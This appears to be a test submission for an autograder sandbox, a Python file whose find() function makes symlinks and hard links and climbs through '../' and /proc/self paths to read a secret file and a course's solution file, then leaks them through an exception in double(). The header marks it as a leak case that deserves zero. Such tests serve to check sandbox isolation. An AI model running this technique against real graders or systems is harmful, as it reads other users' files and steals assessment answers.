"""Makes links to the secrets in its own folder and reads through them.

deserves: 0
in E: leaks: files of the user can be read
"""

import contextlib
import os
from pathlib import Path


def find():
    found = []
    for number, target in enumerate(("@ROOT@/home/secret.txt", "@ROOT@/course/solutions/target/solution.py")):
        for make in (os.symlink, os.link):
            with contextlib.suppress(OSError):
                make(target, f"link{number}{make.__name__}")
                found.append(Path(f"link{number}{make.__name__}").read_text())
    for climb in ("../" * 12, "/proc/self/cwd/" + "../" * 12, "/proc/self/root/"):
        with contextlib.suppress(OSError):
            found.append(Path(climb + "@ROOT@/home/secret.txt").read_text())
    return " ".join(found)[:2000]


def double(x):
    loot = find()
    if loot:
        raise RuntimeError(loot)
    return 0


def shift(x):
    return x
